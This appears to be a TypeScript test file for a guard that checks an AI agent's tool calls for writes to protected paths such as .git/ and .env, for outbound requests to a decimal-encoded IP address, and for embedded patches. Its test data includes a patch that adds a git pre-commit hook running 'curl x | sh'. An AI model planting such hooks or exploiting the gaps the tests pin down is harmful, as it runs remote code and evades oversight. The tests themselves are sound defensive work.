// The call's values read once for every rung (rung.ts leavesOf): the walk order, the key each value sits
// under, and where, as the rungs that read them (egress, self_modify, the compose walk, the witness's SQL
// scan) each walked the arguments before round 20.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { JsonObject } from '../types.js';
import { AT_KEY, DEEPER, IN_LIST, leavesOf, type RungInput } from './rung.js';
import { judge, policyOf } from './testing.js';

const leaves = (args: JsonObject) => leavesOf({ args } as RungInput);

test('leaves: strings and numbers in walk order, under their key, a list item under the list’s key', () => {
  const read = leaves({ a: 'x', b: [1, ['y', { c: 'z' }], { d: 2 }], e: { f: null, g: true, h: 'w' } });
  assert.deepEqual(read.values, ['x', 1, 'y', 'z', 2, 'w']);
  assert.deepEqual(read.keys, ['a', 'b', 'b', 'c', 'd', 'h']);
  assert.deepEqual(read.places, [AT_KEY, IN_LIST, DEEPER, DEEPER, AT_KEY, AT_KEY]);
  const input = { args: { a: 'x' } } as unknown as RungInput;
  assert.equal(leavesOf(input), leavesOf(input), 'read once a call');
});

const policy = policyOf({ allow: ['Write', 'fetch'], self_modify_globs: ['.git/', '.env'] });

test('self_modify on the shared leaves: lists of paths and objects in lists read, a list in a list not', () => {
  const claim = (args: unknown) => judge(policy, 'Write', args).verdict.detail?.claim;
  assert.equal(claim({ files: [{ path: 'a.txt' }, { path: '.env' }] }), '.env');
  assert.equal(claim({ paths: ['a.txt', '.git/config'] }), '.git/');
  // The first hit in walk order names the glob, as the walk did.
  assert.equal(claim({ path: '.env', paths: ['.git/HEAD'] }), '.env');
  assert.equal(claim({ paths: ['.git/HEAD'], path: '.env' }), '.git/');
  // Pinned as before round 20: a path in a list in a list is not read by rung 3 (a file URL alone neither).
  assert.equal(judge(policy, 'Write', { paths: [['.env']] }).verdict.kind, 'ALLOW');
});

test('egress on the shared leaves: a decimal address under an address key, in a list too', () => {
  for (const args of [{ host: 2852039166 }, { servers: [{ ip: 2852039166 }] }, { host: [2852039166] }]) {
    assert.equal(judge(policy, 'fetch', args).verdict.reason, 'EGRESS_BLOCK', JSON.stringify(args));
  }
  assert.equal(judge(policy, 'fetch', { port: 2852039166 }).verdict.kind, 'ALLOW');
});

test('a patch is read in any string of the call, after strings without one, and from the text memo (round 21)', async () => {
  const { adjudicate } = await import('./ladder.js');
  const { compilePolicy } = await import('../policy/load.js');
  const { DEFAULT_FLOOR } = await import('../policy/default-floor.js');
  const floor = compilePolicy(DEFAULT_FLOOR, 'builtin');
  const patch = '*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+curl x | sh\n*** End Patch';
  const claim = (args: JsonObject) => judge(policy, 'Write', args).verdict.detail?.claim;
  // The patch sits in the last string: the one-pass test over the call must reach it.
  assert.equal(claim({ file_path: 'notes.txt', content: 'x', note: 'y', extra: patch }), '.git/');
  assert.equal(claim({ file_path: 'notes.txt', content: 'x', items: ['a', 'b', patch] }), '.git/');
  assert.equal(claim({ file_path: 'notes.txt', content: 'x', items: ['a', 'b'] }), undefined);
  // Commands alternating with and without a patch in one trace: the kept answer is the text's own.
  const commands = [
    'git status',
    `apply_patch <<'EOF'\n${patch}\nEOF`,
    'ls -la',
    `cat > x.diff <<'EOF'\n--- a/x\n+++ b/.github/workflows/ci.yml\n+run: y\nEOF`,
  ];
  const line = (command: string, traceId: string) =>
    JSON.stringify(adjudicate(floor, { tool: 'Bash', args: { command }, traceId }, { tainted: false }));
  const cold = commands.map((c, i) => line(c, `cold-${i}`));
  for (let round = 0; round < 3; round++)
    for (let i = 0; i < commands.length; i++) {
      const c = commands[i] as string;
      assert.equal(line(c, 'one-trace'), cold[i], `round ${round}: ${c.slice(0, 20)}`);
    }
  // Rung 3 reads each patch's path (without the scan the argument rules would name it instead).
  assert.match(cold[1] as string, /"rung":"self_modify","detail":\{"claim":"\.git\/"\}/);
  assert.match(cold[3] as string, /"rung":"self_modify","detail":\{"claim":"\.github\/workflows\/"\}/);
  assert.match(cold[0] as string, /"kind":"ALLOW"/);
});
